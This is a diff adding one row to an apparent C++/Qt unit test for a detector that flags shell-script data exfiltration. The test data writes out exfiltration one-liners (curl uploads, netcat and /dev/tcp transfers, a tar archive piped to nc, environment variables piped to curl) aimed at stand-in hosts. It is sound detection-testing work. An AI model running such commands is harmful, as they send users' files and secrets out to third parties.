@@ -96,6 +96,7 @@ private Q_SLOTS:
             {u"exfiltration high 1"_s});
         row("form upload", script, "curl -F 'f=@notes.txt' https://x.example\n", {u"exfiltration high 1"_s});
         row("netcat", script, "nc x.example 4444 < secrets.txt\n", {u"exfiltration high 1"_s});
+        row("piped to netcat", script, "tar c ~/work | nc x.example 4444\n", {u"exfiltration high 1"_s});
         row("dev tcp", script, "cat f > /dev/tcp/10.0.0.1/80\n", {u"exfiltration high 1"_s});
         row("environment out", script, "env | curl -d @- https://x.example\n", {u"exfiltration high 1"_s});
 
